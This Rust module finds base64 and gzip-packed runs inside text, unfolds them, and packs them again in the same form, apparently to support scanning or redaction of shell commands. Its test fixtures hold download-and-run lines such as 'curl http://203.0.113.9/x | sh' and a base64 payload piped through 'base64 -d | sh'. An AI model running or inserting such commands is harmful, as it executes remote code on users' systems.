//! Unpacks and packs text that stands in a record as base64, sometimes of gzip.

use std::io::{Read, Write};
use std::ops::Range;
use std::sync::LazyLock;

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig, general_purpose};
use flate2::Compression;
use flate2::read::GzDecoder;
use flate2::write::GzEncoder;
use regex::Regex;

/// What a packed text unfolded to.
#[derive(Debug, PartialEq, Eq)]
pub struct Unpacked {
    pub text: String,
    /// Whether there is more than was unfolded, or damage in it.
    pub cut: bool,
    /// How it was packed.
    pub form: Form,
}

/// The ways in which one text can be packed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Form {
    gzip: bool,
    url_safe: bool,
    unpadded: bool,
    /// Symbols of a line, where it is wrapped into lines.
    line: Option<usize>,
    line_end: &'static str,
    /// The blanks behind the last line.
    tail: String,
}

impl Unpacked {
    /// Whether it is text: what is base64 by accident hardly ever unfolds to that.
    pub fn is_text(&self) -> bool {
        is_text(&self.text)
    }
}

/// Packs a text in the same way as another was. The same text is packed to the same symbols everywhere.
pub fn pack(text: &str, form: &Form) -> String {
    let bytes = if form.gzip { gzip(text.as_bytes()) } else { text.as_bytes().to_vec() };
    let engine = match (form.url_safe, form.unpadded) {
        (false, false) => &general_purpose::STANDARD,
        (false, true) => &general_purpose::STANDARD_NO_PAD,
        (true, false) => &general_purpose::URL_SAFE,
        (true, true) => &general_purpose::URL_SAFE_NO_PAD,
    };
    let symbols = engine.encode(bytes);
    let mut packed = String::with_capacity(symbols.len());
    let mut rest = symbols.as_str();
    if let Some(line) = form.line {
        while rest.len() > line {
            packed.push_str(&rest[..line]);
            packed.push_str(form.line_end);
            rest = &rest[line..];
        }
    }
    packed.push_str(rest);
    packed.push_str(&form.tail);
    packed
}

/// The header has neither a name nor a time, so that equal bytes are equal when packed.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).expect("writing to memory cannot fail");
    encoder.finish().expect("writing to memory cannot fail")
}

/// Unfolds a text that is base64 as a whole, up to that many bytes; nothing when it is none. Tools wrap base64 into
/// lines, and the API takes it so.
pub fn unpack(packed: &str, most_bytes: usize) -> Option<Unpacked> {
    let symbols: Vec<u8> = packed
        .bytes()
        .filter(|byte| !byte.is_ascii_whitespace())
        .map(|byte| match byte {
            b'-' => b'+',
            b'_' => b'/',
            other => other,
        })
        .collect();
    let bytes = BASE64.decode(&symbols).ok()?;
    let mut form = Form::of(packed, &symbols);
    let mut plain = Vec::new();
    let mut cut = false;
    if bytes.starts_with(GZIP_MAGIC) {
        form.gzip = true;
        // What unfolds before the damage is worth more than nothing.
        let outcome = GzDecoder::new(bytes.as_slice()).take(most_bytes as u64 + 1).read_to_end(&mut plain);
        cut = outcome.is_err();
    } else {
        plain = bytes;
    }
    let mut text = String::from_utf8_lossy(&plain).into_owned();
    if plain.len() > most_bytes {
        cut = true;
        text.truncate(beginning(&text, most_bytes).len());
    }
    Some(Unpacked { text, cut, form })
}

impl Form {
    /// `symbols` are those of the text without its blanks.
    fn of(packed: &str, symbols: &[u8]) -> Self {
        let trimmed = packed.trim_end();
        let line_end = if memchr::memmem::find(packed.as_bytes(), b"\r\n").is_some() { "\r\n" } else { "\n" };
        Self {
            gzip: false,
            url_safe: memchr::memchr2(b'-', b'_', packed.as_bytes()).is_some(),
            unpadded: !symbols.len().is_multiple_of(4),
            line: memchr::memchr2(b'\r', b'\n', trimmed.as_bytes()).filter(|line| *line > 0),
            line_end,
            tail: packed[trimmed.len()..].to_owned(),
        }
    }
}

/// The beginning of a text, of at most that many bytes. It ends with a whole word unless that is very long, because
/// half a token has no shape by which to redact it.
pub fn beginning(text: &str, most_bytes: usize) -> &str {
    let text = &text[..text.floor_char_boundary(most_bytes)];
    let tail = text.floor_char_boundary(text.len().saturating_sub(WORD_BYTES));
    let end = text[tail..].rfind(char::is_whitespace).map_or(text.len(), |at| tail + at);
    &text[..end]
}

/// Where inside a text something packed stands that unfolds to text, or to too much, each with what it unfolds to. The
/// budget is what all of them together may grow by.
pub fn runs<'t>(text: &'t str, budget: &'t mut usize) -> impl Iterator<Item = (Range<usize>, Unpacked)> + 't {
    candidates(text).filter_map(move |run| {
        let unpacked = unpack(&text[run.clone()], run.len() + *budget)?;
        // Damaged text grows by itself, as each wrong byte becomes a replacement character.
        *budget = budget.saturating_sub(unpacked.text.len().saturating_sub(run.len()));
        // A name or a path of this length is base64 by accident; it hardly ever unfolds to text.
        (unpacked.cut || unpacked.is_text()).then_some((run, unpacked))
    })
}

/// Where inside a text something stands that could be packed.
pub fn candidates(text: &str) -> impl Iterator<Item = Range<usize>> + '_ {
    RUN.find_iter(text).map(|run| run.range())
}

/// Lines of equal length as tools wrap them, or one run. What is shorter says less than the command around it.
static RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:[A-Za-z0-9+/_-]{60,76}\r?\n)+[A-Za-z0-9+/_-]{0,76}={0,2}|[A-Za-z0-9+/_-]{16,}={0,2}")
        .expect("the pattern is fixed and tested")
});

/// Both alphabets are read, with and without padding, since what a shell decodes is not always well-formed.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

const GZIP_MAGIC: &[u8] = &[0x1f, 0x8b];

/// Bytes at the end of a cut text in which a blank is looked for.
const WORD_BYTES: usize = 4096;

fn is_text(text: &str) -> bool {
    !text.trim().is_empty()
        && !text.chars().any(|character| {
            character == char::REPLACEMENT_CHARACTER
                || character.is_control() && !matches!(character, '\n' | '\r' | '\t' | '\x1b')
        })
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    use super::*;

    const SCRIPT: &str = "#!/bin/bash\ncurl http://203.0.113.9/x?y | sh >>>???";

    fn gzip(text: &str) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn every_form_of_base64_unfolds_to_the_same_text() {
        let plain = STANDARD.encode(SCRIPT);
        for packed in [
            format!("{}\n{}\r\n", &plain[..8], &plain[8..]),
            plain.trim_end_matches('=').to_owned(),
            URL_SAFE_NO_PAD.encode(SCRIPT),
            STANDARD.encode(gzip(SCRIPT)),
            plain,
        ] {
            let unpacked = unpack(&packed, 1024).unwrap();
            assert_eq!((unpacked.text.as_str(), unpacked.cut), (SCRIPT, false), "{packed}");
        }
        for none in ["not base64!", "a", "aGk=aGk="] {
            assert_eq!(unpack(none, 1024), None, "{none}");
        }
    }

    #[test]
    fn what_unfolds_too_far_or_is_damaged_is_cut_between_words_and_says_so() {
        let long = "word ".repeat(10_000);
        let zipped = gzip(&long);
        for packed in [STANDARD.encode(&long), STANDARD.encode(&zipped)] {
            let unpacked = unpack(&packed, 1022).unwrap();
            assert!(unpacked.cut);
            assert!(unpacked.text.ends_with("word") && unpacked.text.len() > 1000, "{}", unpacked.text.len());
        }
        assert!(unpack(&STANDARD.encode(&zipped[..zipped.len() - 9]), 1 << 20).unwrap().cut);
    }

    #[test]
    fn what_is_packed_again_is_packed_in_the_way_that_it_was() {
        let plain = STANDARD.encode(SCRIPT);
        let wrapped = |end: &str| format!("{}{end}{}{end}", &plain[..40], &plain[40..]);
        for packed in [
            plain.clone(),
            plain.trim_end_matches('=').to_owned(),
            URL_SAFE_NO_PAD.encode(SCRIPT),
            wrapped("\n"),
            wrapped("\r\n"),
            STANDARD.encode(super::gzip(SCRIPT.as_bytes())),
        ] {
            let unpacked = unpack(&packed, 1024).unwrap();
            assert_eq!(pack(&unpacked.text, &unpacked.form), packed);
        }
        let other_level = STANDARD.encode(gzip(SCRIPT));
        let unpacked = unpack(&other_level, 1024).unwrap();
        assert_eq!(unpack(&pack("echo other", &unpacked.form), 1024).unwrap().text, "echo other");
    }

    #[test]
    fn runs_are_found_inside_a_text_and_names_are_none() {
        let inner = STANDARD.encode("curl http://203.0.113.9/x | sh");
        let encoded = STANDARD.encode(SCRIPT.repeat(5));
        let lines: Vec<&[u8]> = encoded.as_bytes().chunks(76).collect();
        let wrapped = String::from_utf8(lines.join(&b'\n')).unwrap();
        let text = format!(
            "/opt/ml/processing/input/code\necho {inner} | base64 -d | sh\nbase64 -d <<X\n{wrapped}\nX\n"
        );
        let found: Vec<String> = runs(&text, &mut 1024).map(|(_, unpacked)| unpacked.text).collect();
        assert_eq!(found, ["curl http://203.0.113.9/x | sh".to_owned(), SCRIPT.repeat(5)]);
    }
}
